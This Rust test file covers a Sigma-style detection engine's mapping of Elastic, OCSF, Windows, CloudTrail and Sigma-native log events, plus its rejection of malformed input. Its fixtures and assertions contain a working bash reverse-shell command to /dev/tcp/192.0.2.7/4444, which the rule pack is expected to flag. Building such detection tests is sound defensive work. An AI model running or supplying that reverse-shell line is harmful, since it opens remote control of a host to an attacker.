//! Events of other products in Sigma's words, and lines that nobody should have sent.

use proptest::prelude::*;
use sg_detect::mapping::{MAX_FIELDS, MappedEvent, map_event};
use sg_detect::{Event, compile, default_pack};
use sg_types::agent::LogEvent;

use crate::support::pack;

fn map(text: &str) -> MappedEvent {
    map_event(text, &LogEvent::default()).unwrap_or_else(|fault| panic!("{text}: {fault:?}"))
}

fn fault(text: &str) -> &'static str {
    map_event(text, &LogEvent::default()).unwrap_err().code
}

fn source(event: &LogEvent) -> [&str; 3] {
    [&event.product, &event.category, &event.service].map(|part| part.as_deref().unwrap_or(""))
}

/// A reverse shell as Elastic Agent tells it.
pub(crate) const ECS: &str = r#"{"@timestamp":"2026-11-26T10:00:00.123Z","ecs":{"version":"8.11.0"},"event":{"id":"e-1","category":["process"],"type":["start"]},
"host":{"name":"web-1","os":{"type":"linux"}},"user":{"name":"www-data"},"process":{"pid":4711,"name":"bash","executable":"/usr/bin/bash",
"args":["bash","-c","bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"],"hash":{"sha256":"ab"},"parent":{"executable":"/usr/sbin/nginx"}}}"#;

/// The same in OCSF 1.1.
pub(crate) const OCSF: &str = r#"{"class_uid":1007,"activity_id":1,"category_uid":1,"time":1795687200123,"metadata":{"uid":"o-1","version":"1.1.0","product":{"name":"Sensor"}},
"device":{"hostname":"web-1","os":{"type":"Linux","type_id":200}},"actor":{"process":{"pid":1,"file":{"path":"/usr/sbin/nginx"}},"user":{"name":"www-data"}},
"process":{"pid":4711,"name":"bash","cmd_line":"bash -c bash -i >& /dev/tcp/192.0.2.7/4444 0>&1","file":{"path":"/usr/bin/bash",
"hashes":[{"algorithm_id":3,"algorithm":"SHA-256","value":"ab"}]}}}"#;

#[test]
fn elastic_and_ocsf_say_the_same() {
    for (text, id) in [(ECS, "e-1"), (OCSF, "o-1")] {
        let mapped = map(text);
        assert_eq!(mapped.id.as_deref(), Some(id));
        assert_eq!(mapped.at.unwrap().timestamp_millis() % 1_000, 123);
        let event = &mapped.event;
        assert_eq!(source(event), ["linux", "process_creation", ""]);
        for (name, value) in [
            ("Image", "/usr/bin/bash"),
            ("CommandLine", "bash -c bash -i >& /dev/tcp/192.0.2.7/4444 0>&1"),
            ("ParentImage", "/usr/sbin/nginx"),
            ("ProcessId", "4711"),
            ("ProcessName", "bash"),
            ("User", "www-data"),
            ("ComputerName", "web-1"),
            ("sha256", "ab"),
            ("Hashes", "SHA256=ab"),
        ] {
            assert_eq!(
                event.fields.get(name).map(String::as_str),
                Some(value),
                "{id} {name}"
            );
        }
        let found = pack().evaluate(&Event::logged(event));
        assert!(
            found.iter().any(|one| one.rule.threat_type == "reverse_shell"),
            "{found:?}"
        );
    }
}

#[test]
fn what_beats_read_keeps_its_own_names() {
    let windows = map(
        r#"{"@timestamp":1795687200123,"event.code":"4625","winlog":{"channel":"Security","provider_name":"Microsoft-Windows-Security-Auditing",
        "event_data":{"TargetUserName":"anna","LogonType":"3","IpAddress":"192.0.2.7"}}}"#,
    );
    assert_eq!(source(&windows.event), ["windows", "", "security"]);
    let field = |name: &str| windows.event.fields.get(name).map(String::as_str);
    assert_eq!(
        [
            field("EventID"),
            field("TargetUserName"),
            field("LogonType"),
            field("Channel")
        ],
        [Some("4625"), Some("anna"), Some("3"), Some("Security")]
    );
    let cloud = map(
        r#"{"@timestamp":"2026-11-26T10:00:00Z","event":{"dataset":"aws.cloudtrail","action":"StopLogging","provider":"cloudtrail.amazonaws.com"}}"#,
    );
    assert_eq!(source(&cloud.event), ["aws", "", "cloudtrail"]);
    assert_eq!(cloud.event.fields["eventName"], "StopLogging");
    let auth = map(
        r#"{"@timestamp":"2026-11-26T10:00:00Z","event":{"dataset":"system.auth"},"message":"Failed password for root"}"#,
    );
    assert_eq!(source(&auth.event), ["linux", "", "auth"]);
    assert_eq!(auth.event.fields["message"], "Failed password for root");
}

#[test]
fn events_in_sigmas_words_are_taken_as_they_are() {
    let mapped = map(
        r#"{"logsource":{"product":"Linux","service":"sshd"},"id":7,"fields":{"User":"root","tries":3,"deep":{"er":true}}}"#,
    );
    assert_eq!(source(&mapped.event), ["linux", "", "sshd"]);
    assert_eq!((mapped.id.as_deref(), mapped.at), (Some("7"), None));
    assert_eq!(mapped.event.fields["tries"], "3");
    assert_eq!(mapped.event.fields["deep.er"], "true");
}

#[test]
fn a_request_may_say_what_events_leave_open() {
    let text = r#"{"@timestamp":"2026-11-26T10:00:00Z","message":"x"}"#;
    assert_eq!(fault(text), "unknown_log_source");
    let otherwise = LogEvent {
        product: Some("acme".to_owned()),
        ..LogEvent::default()
    };
    assert_eq!(
        source(&map_event(text, &otherwise).unwrap().event),
        ["acme", "", ""]
    );
}

#[test]
fn bad_lines_are_told_apart() {
    let deep = format!(
        "{{\"@timestamp\":\"2026-11-26T10:00:00Z\",\"a\":{}1{}}}",
        "[".repeat(60),
        "]".repeat(60)
    );
    let deepest = format!("{{\"@timestamp\":{}1{}}}", "[".repeat(1_000), "]".repeat(1_000));
    let wide: Vec<String> = (0..=MAX_FIELDS).map(|n| format!("\"f{n}\":1")).collect();
    let wide = format!(
        r#"{{"logsource":{{"product":"x"}},"fields":{{{}}}}}"#,
        wide.join(",")
    );
    let long_name = format!(
        r#"{{"logsource":{{"product":"x"}},"fields":{{"{}":1}}}}"#,
        "n".repeat(300)
    );
    for (text, code) in [
        ("", "invalid_json"),
        ("{", "invalid_json"),
        ("[]", "invalid_json"),
        ("\"text\"", "invalid_json"),
        ("{}", "unknown_format"),
        (r#"{"logsource":1}"#, "unknown_format"),
        (r#"{"logsource":{},"fields":[]}"#, "unknown_format"),
        (r#"{"logsource":{"product":"x"},"field":{}}"#, "unknown_format"),
        (r#"{"logsource":{},"fields":{}}"#, "unknown_log_source"),
        (
            r#"{"logsource":{"product":"a\u0000b"},"fields":{}}"#,
            "unknown_log_source",
        ),
        (
            r#"{"logsource":{"product":"x"},"time":"yesterday"}"#,
            "invalid_time",
        ),
        (r#"{"logsource":{"product":"x"},"time":1e300}"#, "invalid_time"),
        (
            r#"{"logsource":{"product":"x"},"fields":{"a\nb":1}}"#,
            "invalid_field",
        ),
        (&long_name, "invalid_field"),
        (&deep, "too_deep"),
        (&deepest, "too_deep"),
        (&wide, "too_many_fields"),
    ] {
        assert_eq!(fault(text), code, "{text:.100}");
    }
    let long = format!(
        r#"{{"logsource":{{"product":"x"}},"fields":{{"a":"{}\u0000"}}}}"#,
        "ä".repeat(20_000)
    );
    let cut = &map(&long).event.fields["a"];
    assert!(cut.ends_with('…') && cut.chars().count() == 8_192);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn no_text_makes_it_panic(text in "\\PC{0,200}", key in "(@timestamp|class_uid|logsource|event)", value in "[\\[\\]{}:,0-9a-z\"\\\\]{0,60}") {
        let _ = map_event(&text, &LogEvent::default());
        let _ = map_event(&format!("{{\"{key}\":{value}}}"), &LogEvent::default());
        if let Ok(mapped) = map_event(&format!("{{\"{key}\":1,\"event\":{{\"dataset\":\"{key}.x\"}},\"{key}2\":{value}}}"), &LogEvent::default()) {
            let (rules, _) = compile(&default_pack()[..3]);
            rules.evaluate(&Event::logged(&mapped.event));
        }
    }
}
